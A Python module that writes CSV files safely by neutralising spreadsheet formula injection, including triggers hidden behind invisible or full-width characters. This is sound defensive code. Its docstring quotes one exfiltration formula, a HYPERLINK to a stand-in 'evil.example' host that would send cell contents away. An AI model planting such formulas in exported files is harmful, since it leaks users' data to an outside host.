"""The one place where Lantern writes spreadsheet files (CSV now; XLSX writers go through `safe_cell` too).

A spreadsheet program that opens a CSV or XLSX file runs a text cell beginning with `=`, `+`, `-` or `@` as a
formula (`=HYPERLINK("//evil.example/"&A1,"1")` sends the neighbouring cells away when clicked; DDE formulas run
programs). A tab or carriage return in front of it is skipped by some importers, and so is leading white space
when "trim spaces" is on (LibreOffice), so they count as the same threat. Full-width equals, plus,
minus and at (U+FF1D, U+FF0B, U+FF0D, U+FF20) are turned into their ASCII forms by spreadsheet input in CJK
locales, and are neutralised too, as is any of these behind invisible characters (white space of any kind, zero-width
spaces, the byte-order mark, direction marks: a reader does not see them, and some programs drop them before
evaluating). Every text cell that could be read
so gets a leading apostrophe (OWASP's advice: shown as text, the apostrophe is hidden in Excel and LibreOffice).

Numbers stay numbers: an int, float or Decimal is written as it is, and a text that is only a plain decimal number
(`-99`, `-3.5`) too, since a spreadsheet reads it as that number and nothing else."""

from __future__ import annotations

import csv
import re
import unicodedata
from collections.abc import Iterable
from decimal import Decimal
from typing import IO, Any

FORMULA_TRIGGERS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
_PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet may safely read it: numbers untouched, formula-looking text made inert."""
    if value is None or isinstance(value, bool | int | float | Decimal):
        return value
    text = str(value)
    first = text[:1]
    first_seen = _first_visible(text)
    if (first in FORMULA_TRIGGERS or first_seen in FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def _first_visible(text: str) -> str:
    for char in text:
        if not (char.isspace() or unicodedata.category(char) == "Cf"):
            return char
    return ""


def cell_read(text: str) -> str:
    """The text `safe_cell` was given, from what it wrote: an apostrophe in front of a text it would have guarded
    is its own, and goes (so that a phone number "+30 ..." comes back whole from a file Lantern wrote)."""
    if text.startswith("'") and safe_cell(text[1:]) == text:
        return text[1:]
    return text


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]


class SafeWriter:
    """`csv.writer` whose every cell goes through `safe_cell`."""

    def __init__(self, out: IO[str] | Any, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self._writer.writerow(safe_row(row))


def csv_writer(out: IO[str] | Any, **options: Any) -> SafeWriter:
    """The only CSV writer of Lantern (a test checks that no other module calls `csv.writer`)."""
    return SafeWriter(out, **options)
